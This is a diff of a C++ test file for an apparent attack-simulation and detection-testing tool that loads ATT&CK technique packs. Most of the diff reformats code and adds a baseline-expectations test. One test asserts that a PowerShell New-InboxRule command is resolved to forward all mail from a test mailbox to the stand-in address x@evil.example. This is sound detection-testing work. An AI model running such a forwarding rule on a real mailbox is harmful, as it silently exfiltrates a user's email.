@@ -19,8 +19,10 @@ bool has(const Problems& ps, const std::string& code, const std::string& file_su
          std::uint64_t line, const std::string& fragment) {
     for (const auto& p : ps.items()) {
         bool file_ok = p.file.size() >= file_suffix.size() &&
-                       p.file.compare(p.file.size() - file_suffix.size(), file_suffix.size(), file_suffix) == 0;
-        if (p.code == code && file_ok && p.line == line && p.format().find(fragment) != std::string::npos)
+                       p.file.compare(p.file.size() - file_suffix.size(), file_suffix.size(),
+                                      file_suffix) == 0;
+        if (p.code == code && file_ok && p.line == line &&
+            p.format().find(fragment) != std::string::npos)
             return true;
     }
     return false;
@@ -49,7 +51,8 @@ TEST(PackTest, ShippedT1114PackHasNoProblems) {
     // The seed rule, verbatim.
     EXPECT_EQ(s1.detections[0].query.rfind("sequence by host.name with maxspan=5m\n", 0), 0u);
     EXPECT_NE(s1.detections[0].query.find("] by process.entity_id"), std::string::npos);
-    auto s3 = pack->checks_for(*pack->find_test("Remote Exchange mailbox enumeration via an EWS SOAP FindItem request"));
+    auto s3 = pack->checks_for(
+        *pack->find_test("Remote Exchange mailbox enumeration via an EWS SOAP FindItem request"));
     EXPECT_TRUE(expectations::is_secret_argument(s3, "password"));
     EXPECT_FALSE(expectations::is_secret_argument(s3, "username"));
     EXPECT_EQ(pack->lab_files, std::vector<std::string>{"lab/auditd.rules"});
@@ -63,11 +66,16 @@ TEST(PackTest, ShippedPackArgumentsResolve) {
     ASSERT_NE(t, nullptr);
     auto r = resolve_test(*t, {{"forward_to", "x@evil.example"}}, pack->atomics_folder);
     ASSERT_TRUE(r) << r.error().message;
-    EXPECT_NE(r->command.find("New-InboxRule -Name \"attest-forward-all\" -Mailbox \"attest.user@contoso.onmicrosoft.com\" -ForwardTo \"x@evil.example\""),
-              std::string::npos) << r->command;
+    EXPECT_NE(
+        r->command.find("New-InboxRule -Name \"attest-forward-all\" -Mailbox "
+                        "\"attest.user@contoso.onmicrosoft.com\" -ForwardTo \"x@evil.example\""),
+        std::string::npos)
+        << r->command;
     // Cleanup runs in a new process: everything it needs comes from arguments.
-    EXPECT_NE(r->cleanup_command.find("Remove-InboxRule -Mailbox \"attest.user@contoso.onmicrosoft.com\" -Identity \"attest-forward-all\""),
-              std::string::npos);
+    EXPECT_NE(
+        r->cleanup_command.find("Remove-InboxRule -Mailbox \"attest.user@contoso.onmicrosoft.com\" "
+                                "-Identity \"attest-forward-all\""),
+        std::string::npos);
     EXPECT_EQ(r->cleanup_command.find("#{"), std::string::npos);
 }
 
@@ -93,7 +101,8 @@ TEST(PackTest, BrokenPackListsEveryProblemWithPositions) {
     EXPECT_TRUE(has(problems, "E016", atomic, 11, "directory")) << dump(problems);
     EXPECT_TRUE(has(problems, "E005", atomic, 15, "#{mail_spool}")) << dump(problems);
     EXPECT_TRUE(has(problems, "E007", atomic, 14, "sudo")) << dump(problems);
-    EXPECT_TRUE(has(problems, "E011", atomic, 17, "0a0a0a0a-1111-2222-3333-444444444444")) << dump(problems);
+    EXPECT_TRUE(has(problems, "E011", atomic, 17, "0a0a0a0a-1111-2222-3333-444444444444"))
+        << dump(problems);
     EXPECT_TRUE(has(problems, "W008", atomic, 22, "comand")) << dump(problems);
     EXPECT_TRUE(has(problems, "E013", atomic, 21, "needs a 'command'")) << dump(problems);
     EXPECT_TRUE(has(problems, "E114", exp, 6, "sysmn")) << dump(problems);
@@ -119,10 +128,14 @@ TEST(PackTest, BrokenPackListsEveryProblemWithPositions) {
     EXPECT_EQ(problems.error_count(), 19u) << dump(problems);
 }
 
-// A scenario's tactics: the pack's `tactics:` (any case, spaces allowed), else the technique's
-// from the shipped table; a name that is not an ATT&CK tactic is E125.
-TEST(PackTest, TacticsFromThePackElseFromTheTechnique) {
-    fs::path dir = fs::temp_directory_path() / ("attest_pack_tactics_" + std::to_string(::getpid()));
+namespace {
+
+// A pack with two tests (uname: ...555, hostname: ...666) and the given expectations.yaml
+// (none when empty).
+fs::path two_test_pack(const std::string& name, const std::string& expectations) {
+    fs::path dir =
+        fs::temp_directory_path() / ("attest_pack_" + name + "_" + std::to_string(::getpid()));
+    fs::remove_all(dir);
     fs::create_directories(dir / "atomics/T1082");
     std::ofstream(dir / "atomics/T1082/T1082.yaml") << R"(attack_technique: T1082
 display_name: System Information Discovery
@@ -142,11 +155,20 @@ atomic_tests:
     name: sh
     command: hostname
 )";
-    std::ofstream(dir / "expectations.yaml") << R"(version: 1
+    if (!expectations.empty()) std::ofstream(dir / "expectations.yaml") << expectations;
+    return dir;
+}
+
+}  // namespace
+
+// A scenario's tactics: the pack's `tactics:` (any case, spaces allowed), else the technique's
+// from the shipped table; a name that is not an ATT&CK tactic is E125.
+TEST(PackTest, TacticsFromThePackElseFromTheTechnique) {
+    fs::path dir = two_test_pack("tactics", R"(version: 1
 scenarios:
   11111111-2222-3333-4444-555555555555:
     tactics: [Defense Evasion, discovery, nonsense]
-)";
+)");
     Problems problems;
     auto pack = load_pack(dir.string(), problems);
     ASSERT_TRUE(pack);
@@ -162,7 +184,8 @@ scenarios:
     EXPECT_EQ((*pack->select_test("11111111-2222-3333-4444-6666"))->name, "hostname");
     auto ambiguous = pack->select_test("11111111");
     ASSERT_FALSE(ambiguous);
-    EXPECT_NE(ambiguous.error().message.find("matches 2 tests"), std::string::npos) << ambiguous.error().message;
+    EXPECT_NE(ambiguous.error().message.find("matches 2 tests"), std::string::npos)
+        << ambiguous.error().message;
     EXPECT_FALSE(pack->select_test("T1082-3"));
     fs::remove_all(dir);
 }
@@ -258,6 +281,50 @@ atomic_tests:
         EXPECT_EQ(checks.success_executor, c.executor) << c.yaml;
     }
     fs::remove_all(dir);
+}
+
+// Baseline expectations: always for a test the expectations file does not mention, beside the
+// hand-written ones when the file asks (top level or scenario); a bad value is E128.
+TEST(PackTest, BaselineForUncoveredTestsOrWhenAsked) {
+    const std::string uname = "11111111-2222-3333-4444-555555555555";
+    struct Case {
+        const char* expectations;
+        bool uname_baseline, hostname_baseline;
+        const char* problem;  // code expected at line 2 or 5, "" none
+    };
+    const Case cases[] = {
+        {"", true, true, ""},
+        {"version: 1\nscenarios:\n  11111111-2222-3333-4444-555555555555:\n    tactics: "
+         "[discovery]\n",
+         false, true, ""},
+        {"version: 1\nscenarios:\n  11111111-2222-3333-4444-555555555555:\n    tactics: "
+         "[discovery]\n"
+         "    baseline: true\n",
+         true, true, ""},
+        {"version: 1\nbaseline: true\nscenarios:\n  11111111-2222-3333-4444-555555555555:\n    "
+         "tactics: "
+         "[discovery]\n",
+         true, true, ""},
+        {"version: 1\nbaseline: maybe\nscenarios:\n  11111111-2222-3333-4444-555555555555:\n    "
+         "tactics: "
+         "[discovery]\n",
+         false, true, "E128"},
+    };
+    for (const auto& c : cases) {
+        SCOPED_TRACE(c.expectations);
+        fs::path dir = two_test_pack("baseline", c.expectations);
+        Problems problems;
+        auto pack = load_pack(dir.string(), problems);
+        ASSERT_TRUE(pack);
+        EXPECT_EQ(pack->checks_for(*pack->find_test(uname)).baseline, c.uname_baseline);
+        EXPECT_EQ(pack->checks_for(*pack->find_test("hostname")).baseline, c.hostname_baseline);
+        if (*c.problem)
+            EXPECT_TRUE(has(problems, c.problem, "expectations.yaml", 2, "maybe"))
+                << dump(problems);
+        else
+            EXPECT_EQ(problems.error_count(), 0u) << dump(problems);
+        fs::remove_all(dir);
+    }
 }
 
 TEST(PackTest, RuleLoadErrorsDoNotBlockARunButMarkTheDetection) {
